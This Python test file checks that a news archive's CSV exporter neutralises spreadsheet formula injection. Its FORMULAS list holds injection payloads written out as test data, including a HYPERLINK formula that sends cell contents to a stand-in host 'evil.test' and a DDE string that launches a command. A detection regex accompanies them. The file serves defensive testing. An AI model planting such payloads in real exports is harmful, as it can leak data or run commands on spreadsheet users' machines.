"""CSV: every row under its columns, and nothing in it that a spreadsheet would run."""

import csv
import gzip
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.catalog.selection import Selection
from archive.errors import UsageError
from archive.exporters.csvfile import safe, write, write_rows
from archive.exporters.rowtypes import MORE, ROWS, leaves
from archive.exporters.views import VIEWS
from archive.facts.canonical import canonical, parse
from archive.facts.teasers import Teaser
from tests import facts

FORMULAS = (
    '=HYPERLINK("http://evil.test/?"&A1)', "+33 1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1+1", "'=1", '"=1"',
    "Un bac; =1+1", 'Un bac;"=cmd|\'/c calc\'!A1', "Un bac;-1", "\u202e=1", "\x0b=1", "\ufeff\x01 =1", "a\u2028@x", "\x00-1",
)  # fmt: skip
DANGER = re.compile('["\\s\x00-\x1f\x7f-\x9f\u200e\u202e\ufeff]*[=+@\t\r\uff1d\uff0b\uff0d\uff20-]')
SAID = (Path(__file__).resolve().parents[3] / "DATA_FORMAT.md").read_text(encoding="utf-8")
RULE = re.search(r"```\n(ends = .*\nunseen = .*\n)re\.sub\((rf\".*?\"), ", SAID)


@pytest.fixture(scope="module")
def archive():
    log = facts.new_log()
    facts.write(log, *(facts.read(n, n, headline=text) for n, text in enumerate(FORMULAS, 1)))
    facts.write(log, facts.read(1, 60, "=1+1\u00a0est écrit là."), facts.saw(2, 60, "gone"), facts.saw(3, 61, "gone"))
    seen = facts.Check(
        at=facts.at(90), url="http://127.0.0.1/une", kind="section", section="une", page=1, outcome="listed",
        listed=("1", "2"), teasers=(Teaser(text="=1+1", spot="a1b2c3d4"), Teaser(picture="http://127.0.0.1/a.jpg")),
    )  # fmt: skip
    facts.write(log, facts.Fact(check=seen))
    return facts.folded(log)


def undo(cell):
    """Return what DATA_FORMAT.md makes of a cell: the text as it was."""
    given = {"re": re}
    exec(RULE[1], given)
    return re.sub(eval(RULE[2], given), r"\1", cell)


def cells(data):
    return list(csv.DictReader(io.StringIO(data.decode(), newline=""), strict=True))


def leaf(row, path):
    for name in path:
        row = (row or {}).get(name)
    return row


@pytest.mark.row("F-TAK-03")
@pytest.mark.parametrize("view", ROWS)
def test_each_view_has_its_rows_under_the_same_columns(archive, tmp_path, view):
    """In the view's order; texts, numbers, lists of texts a line each, and the rest as JSON; nothing is left over."""
    write(archive, view, chosen=Selection(), target=str(tmp_path / "a.csv"), bom="no")
    found, rows = cells((tmp_path / "a.csv").read_bytes()), list(VIEWS[view](archive, Selection()))
    paths = [path for path, _ in leaves(ROWS[view])]

    assert len(found) == len(rows) > 0
    assert {tuple(each) for each in found} == {(*map(".".join, paths), MORE)}
    for told, row in zip(found, rows, strict=True):
        assert told[MORE] == ""
        for path in paths:
            value, cell = leaf(row, path), undo(told[".".join(path)])
            if isinstance(value, str | None):
                assert cell == (value or "")
            elif isinstance(value, list) and all(isinstance(each, str) for each in value):
                assert cell == "\n".join(value)
            else:
                assert parse(cell) == value


@pytest.mark.row("F-TAK-03")
def test_a_field_that_no_column_has_is_kept(archive):
    """One that a newer program stores stands in the last column, and moves no other."""
    row = next(VIEWS["versions"](archive, Selection())) | {"mood": ["calme"], "weight": 3}
    out = io.BytesIO()
    write_rows("versions", [row], out, "a.csv")

    (told,) = cells(out.getvalue())
    assert parse(told[MORE]) == {"mood": ["calme"], "weight": 3}


@pytest.mark.row("F-TAK-03")
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_reader_finds_a_formula(archive, separator):
    """Whatever it takes for a separator, quotes or no quotes: spreadsheets differ by country."""
    out = io.BytesIO()
    count = write_rows("latest", VIEWS["latest"](archive, Selection()), out, "a.csv")
    text = out.getvalue().decode()
    read = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    split = re.split(f"[{separator}\n]", text) if separator != "," else []

    assert count == len(FORMULAS)
    assert [cell for cell in (*read, *split) if DANGER.match(cell)] == []


@pytest.mark.row("F-TAK-03")
@given(st.text(st.sampled_from("=+-@;,\t\r\n\"' \u00a0a\uff1dé\0\x0b\x1e\x85\u200f\u202e\u2028\ufeff")))
def test_what_was_put_before_is_taken_away_again(text):
    """By the rule of DATA_FORMAT.md any text comes back as it was, and none is dangerous as it stands."""
    told = safe(text)

    assert undo(told) == text
    assert not any(DANGER.match(part) for part in re.split("[;\t\r\n\x0b\x0c\x85\u2028\u2029]", told))


def test_the_mark_for_excel(archive, tmp_path):
    """It is there where it was asked for, packed or not; another word is refused."""
    for name, bom in (("a.csv", "yes"), ("a.csv.gz", "yes"), ("b.csv", "no")):
        write(archive, "events", chosen=Selection(), target=str(tmp_path / name), bom=bom)
    plain = (tmp_path / "b.csv").read_bytes()

    assert (tmp_path / "a.csv").read_bytes() == b"\xef\xbb\xbf" + plain
    assert gzip.decompress((tmp_path / "a.csv.gz").read_bytes()) == b"\xef\xbb\xbf" + plain
    with pytest.raises(UsageError, match="yes or no"):
        write(archive, "events", chosen=Selection(), target=str(tmp_path / "c.csv"), bom="maybe")


def test_no_rows_are_the_names_alone(tmp_path):
    """An archive without articles gives the columns."""
    out = io.BytesIO()

    assert write_rows("changes", [], out, "") == 0
    assert out.getvalue().startswith(b"article_id,version,")
    assert out.getvalue().count(b"\r\n") == 1
    assert canonical(cells(out.getvalue())) == b"[]"
